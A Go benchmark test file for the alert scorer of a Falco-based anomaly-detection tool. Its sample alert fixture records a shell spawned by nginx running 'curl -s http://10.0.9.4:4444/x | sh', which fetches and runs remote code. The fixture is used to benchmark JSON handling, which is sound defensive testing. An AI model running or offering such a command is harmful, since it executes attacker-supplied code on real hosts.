package scorer

import (
	"bytes"
	"fmt"
	"testing"
	"time"
)

// benchAlert returns a realistic anomaly alert: an explanation of eight
// symbols and three transitions, and a Falco event of about 1 KB as Falco's
// http_output sends it (one line).
func benchAlert(tb testing.TB) *Alert {
	tb.Helper()
	t := time.Date(2026, 11, 24, 12, 0, 0, 123456789, time.UTC)
	raw := fmt.Sprintf(`{"hostname":"ip-10-0-3-17.eu-west-1.compute.internal","output":"12:00:00.123456789: Warning Outbound connection from a shell to a non-standard port (user=www-data user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=nginx command=bash -c \"curl -s http://10.0.9.4:4444/x | sh\" connection=10.0.3.17:51512->10.0.9.4:4444 container_id=4e5c1a2b3c4d container_name=web image=registry.example.com/shop/web:2.14.1)","priority":"Warning","rule":"Outbound Connection to C2 Servers","source":"syscall","tags":["T1071","container","mitre_command_and_control","network"],"time":%q,"output_fields":{"container.id":"4e5c1a2b3c4d","container.image.repository":"registry.example.com/shop/web","container.image.tag":"2.14.1","container.name":"web","evt.type":"connect","fd.name":"10.0.3.17:51512->10.0.9.4:4444","fd.sport":51512,"k8s.ns.name":"shop","k8s.pod.name":"web-7d9f8c6b5-x2k4q","proc.cmdline":"bash -c \"curl -s http://10.0.9.4:4444/x | sh\"","proc.exepath":"/usr/bin/bash","proc.name":"bash","proc.pid":4242,"proc.pname":"nginx","user.loginuid":-1,"user.name":"www-data","user.uid":33}}`,
		t.Format(time.RFC3339Nano))
	ev, err := DecodeJSON([]byte(raw))
	if err != nil {
		tb.Fatal(err)
	}
	return &Alert{
		ID:       AlertID(ev.Raw, KindAnomaly),
		Kind:     KindAnomaly,
		Time:     t,
		Priority: PriorityError,
		Event:    ev,
		Subject: Subject{
			Image: "registry.example.com/shop/web:2.14.1", ImageSource: "tag", ContainerID: "4e5c1a2b3c4d",
			Container: "web", Namespace: "shop", Pod: "web-7d9f8c6b5-x2k4q", Process: "bash", PID: 4242,
			Parent: "nginx", Hostname: "ip-10-0-3-17.eu-west-1.compute.internal",
		},
		Score: Score{
			Value: 23.718492031, Threshold: 11.25, Ratio: 23.718492031 / 11.25, Band: "critical",
			Verdict: VerdictAnomalous, FalcoPriority: PriorityWarning,
		},
		Baseline: Maturity{State: "monitoring", Events: 1843021, Transitions: 1207,
			Since: time.Date(2026, 11, 20, 8, 30, 0, 0, time.UTC), Inherited: "registry.example.com/shop/web:2.14.0"},
		Explain: &Explanation{
			Window: []string{"accept4", "read", "clone", "execve", "openat", "socket", "connect", "write"},
			Transitions: []Transition{
				{History: []string{"read", "clone"}, Symbol: "execve", Probability: 0.00031, Surprise: 8.33, HistorySeen: 51230},
				{History: []string{"clone", "execve"}, Symbol: "openat", Probability: 0.0127, Surprise: 4.37, HistorySeen: 211},
				{History: []string{"openat", "socket"}, Symbol: "connect", Probability: 1.7e-7, Surprise: 15.84, HistorySeen: 9},
			},
		},
		Sinks:  []string{"kafka", "slack"},
		Reason: "window score 23.72 above the image's threshold 11.25 (x2.11)",
	}
}

func BenchmarkAlertMarshal(b *testing.B) {
	a := benchAlert(b)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := a.MarshalJSON(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkAlertUnmarshal(b *testing.B) {
	p, err := benchAlert(b).MarshalJSON()
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(p)))
	b.ReportAllocs()
	for b.Loop() {
		var a Alert
		if err := a.UnmarshalJSON(p); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkValidUTF8JSON measures the check every marshalled alert pays on
// its Falco event (clean: no copy), and the rewrite of one with bad bytes.
func BenchmarkValidUTF8JSON(b *testing.B) {
	clean := []byte(benchAlert(b).Event.Raw)
	dirty := bytes.Replace(clean, []byte("/usr/bin/bash"), []byte("/usr/bin/b\xffsh"), -1)
	for _, bc := range []struct {
		name string
		in   []byte
	}{{"clean", clean}, {"dirty", dirty}} {
		b.Run(bc.name, func(b *testing.B) {
			b.SetBytes(int64(len(bc.in)))
			b.ReportAllocs()
			for b.Loop() {
				_ = ValidUTF8JSON(bc.in)
			}
		})
	}
}
